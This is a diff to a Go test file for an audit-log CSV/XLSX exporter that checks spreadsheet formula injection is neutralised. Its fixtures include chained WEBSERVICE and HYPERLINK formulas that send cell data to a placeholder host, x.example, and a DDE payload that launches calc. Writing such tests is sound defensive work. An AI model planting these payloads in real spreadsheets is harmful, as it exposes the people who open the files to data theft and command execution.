@@ -17,6 +17,8 @@ import (
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 	"github.com/xuri/excelize/v2"
+
+	"github.com/otelcol-audit/otelcol-audit/internal/audit"
 )
 
 func dublin(t testing.TB) *time.Location {
@@ -27,9 +29,9 @@ func dublin(t testing.TB) *time.Location {
 
 // testRows mixes ordinary events with every injection payload in every text column, and
 // rows whose cells together build exfiltration formulas.
-func testRows() []Row {
+func testRows() []audit.Row {
 	base := time.Date(2026, 3, 29, 0, 30, 0, 0, time.UTC) // Dublin switches to IST at 01:00 UTC
-	rows := []Row{
+	rows := []audit.Row{
 		{Time: base, Author: "alice@example.com", Category: "Authentication", Summary: "Login", Description: "Alice logged in, \"twice\"\nfrom the VPN", Outcome: "success", SourceIP: "10.0.0.1", Target: "alice", EventID: "e-1", Tenant: "acme"},
 		{Time: base.Add(time.Hour), Author: "Zoë Ñúñez", Category: "Users", Summary: "User created", Description: "日本語 and emoji 🎉; CRLF\r\ninside", Outcome: "failure", SourceIP: "2001:db8::1", Target: "bob", EventID: "e-2", Tenant: "acme"},
 	}
@@ -38,7 +40,7 @@ func testRows() []Row {
 		payloads = append(payloads, p.in)
 	}
 	for i, p := range payloads {
-		rows = append(rows, Row{
+		rows = append(rows, audit.Row{
 			Time: base.Add(time.Duration(i) * time.Minute), Author: p, Category: p, Summary: p, Description: p,
 			Outcome: p, SourceIP: p, Target: p, EventID: fmt.Sprintf("inj-%d", i), Tenant: p,
 		})
@@ -49,8 +51,8 @@ func testRows() []Row {
 // chainRows build formulas out of several cells: each cell alone looks like text, but a
 // reader that splits on ";" or "," (or joins cells back) would get WEBSERVICE, HYPERLINK or
 // DDE formulas that send another cell (A2: the date, B2: the author) to a remote host.
-func chainRows(at time.Time) []Row {
-	return []Row{
+func chainRows(at time.Time) []audit.Row {
+	return []audit.Row{
 		{Time: at, Author: "bob", Category: `x;=WEBSERVICE("http://x.example/?"`, Summary: `&A2)`, Description: "secret", EventID: "chain-1"},
 		{Time: at, Author: `x,=WEBSERVICE(CONCATENATE("http://x.example/?",B2`, Category: `,C2))`, EventID: "chain-2"},
 		{Time: at, Author: "carol", Summary: `note;=HYPERLINK("http://x.example/?"&A2;"Click to view")`, EventID: "chain-3"},
@@ -62,13 +64,13 @@ func chainRows(at time.Time) []Row {
 
 // expectedCells is what a reader must get back for a row: for CSV, SafeCSVCell's text;
 // XLSX keeps SafeCell's text, except characters XML 1.0 cannot hold, which become U+FFFD.
-func expectedCells(r Row, loc *time.Location, csvCells bool) []string {
+func expectedCells(r audit.Row, loc *time.Location, csvCells bool) []string {
 	cells := make([]string, len(Columns))
 	if csvCells {
-		r.cells(cells, loc, SafeCSVCell)
+		rowCells(&r, cells, loc, SafeCSVCell)
 		return cells
 	}
-	r.cells(cells, loc, SafeCell)
+	rowCells(&r, cells, loc, SafeCell)
 	for i, c := range cells {
 		cells[i] = strings.Map(func(r rune) rune {
 			if !xmlLegal(string(r)) {
@@ -80,7 +82,7 @@ func expectedCells(r Row, loc *time.Location, csvCells bool) []string {
 	return cells
 }
 
-func render(t testing.TB, format string, rows []Row, loc *time.Location, opts ...Option) []byte {
+func render(t testing.TB, format string, rows []audit.Row, loc *time.Location, opts ...Option) []byte {
 	t.Helper()
 	var buf bytes.Buffer
 	w, err := New(format, &buf, loc, opts...)
@@ -126,7 +128,7 @@ func TestCSVRoundTrip(t *testing.T) {
 // TestCSVSemicolonLocale: the cell that Excel with ";" as list separator used to split into
 // "x" and a DDE formula is one quoted field, and its second half is neutralised.
 func TestCSVSemicolonLocale(t *testing.T) {
-	out := string(render(t, FormatCSV, []Row{{Author: "x;=cmd|' /C calc'!A0", Description: "plain", EventID: "e-1"}}, time.UTC, WithBOM(false)))
+	out := string(render(t, FormatCSV, []audit.Row{{Author: "x;=cmd|' /C calc'!A0", Description: "plain", EventID: "e-1"}}, time.UTC, WithBOM(false)))
 	assert.Contains(t, out, `,"x;'=cmd|' /C calc'!A0",`)
 	lines := strings.Split(strings.TrimSuffix(out, "\r\n"), "\r\n")
 	require.Len(t, lines, 2)
@@ -201,7 +203,7 @@ func TestCSVWithoutBOMAndEmpty(t *testing.T) {
 }
 
 func TestCSVInvalidUTF8(t *testing.T) {
-	out := render(t, FormatCSV, []Row{{Author: "bad\xffbyte"}}, time.UTC, WithBOM(false))
+	out := render(t, FormatCSV, []audit.Row{{Author: "bad\xffbyte"}}, time.UTC, WithBOM(false))
 	assert.True(t, utf8.Valid(out))
 	assert.Contains(t, string(out), "bad\uFFFDbyte")
 }
@@ -298,9 +300,9 @@ func TestXLSXRollover(t *testing.T) {
 	t.Cleanup(func() { maxSheetRows = old })
 	assert.Equal(t, 1048576, MaxSheetRows)
 
-	var rows []Row
+	var rows []audit.Row
 	for i := range 8 {
-		rows = append(rows, Row{Time: time.Unix(int64(i), 0), EventID: fmt.Sprintf("e-%d", i), Author: "=evil"})
+		rows = append(rows, audit.Row{Time: time.Unix(int64(i), 0), EventID: fmt.Sprintf("e-%d", i), Author: "=evil"})
 	}
 	out := render(t, FormatXLSX, rows, time.UTC)
 	assertNoFormulaXML(t, out)
@@ -325,7 +327,7 @@ func TestXLSXRolloverOnSize(t *testing.T) {
 	old := maxSheetTextBytes
 	maxSheetTextBytes = 100
 	t.Cleanup(func() { maxSheetTextBytes = old })
-	rows := []Row{{Description: strings.Repeat("x", 80)}, {Description: strings.Repeat("y", 80)}}
+	rows := []audit.Row{{Description: strings.Repeat("x", 80)}, {Description: strings.Repeat("y", 80)}}
 	out := render(t, FormatXLSX, rows, time.UTC)
 	f, err := excelize.OpenReader(bytes.NewReader(out))
 	require.NoError(t, err)
@@ -337,7 +339,7 @@ func TestXLSXTruncation(t *testing.T) {
 	long := "=" + strings.Repeat("a", MaxCellChars)  // a trigger too, to check the prefix survives
 	astral := strings.Repeat("🎉", MaxCellChars/2+10) // two UTF-16 units per rune
 	exact := strings.Repeat("é", MaxCellChars)       // 2 bytes, one unit each: fits exactly
-	out := render(t, FormatXLSX, []Row{{Description: long, Target: astral, Author: exact}}, time.UTC)
+	out := render(t, FormatXLSX, []audit.Row{{Description: long, Target: astral, Author: exact}}, time.UTC)
 	f, err := excelize.OpenReader(bytes.NewReader(out))
 	require.NoError(t, err)
 	defer f.Close()
